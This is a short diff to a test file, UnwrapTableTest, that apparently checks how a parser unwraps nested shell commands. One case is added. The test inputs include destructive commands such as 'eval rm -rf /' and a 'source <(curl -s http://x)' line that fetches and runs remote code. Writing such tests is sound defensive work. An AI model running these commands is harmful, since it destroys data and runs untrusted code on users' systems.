@@ -141,6 +141,7 @@ class UnwrapTableTest {
         row("eval rm -rf /", "eval rm -rf / ; [eval] rm -rf /"),
         row("eval \"$CMD\"", "eval ‹$CMD› ; [eval] ‹$CMD›"),
         row("eval 'X=/'; rm -rf $X", "eval X=/ ; rm -rf /"),
+        row("Y=/tmp; eval \"$X\"; rm -rf $Y", "eval ‹$X› ; [eval] ‹$X› ; rm -rf ‹$Y›"),
         row(
             "source <(curl -s http://x)",
             "curl -s http://x ; source ‹<(curl -s http://x)› ; [source <(curl -s http://x)] ‹<(curl -s http://x)›"),
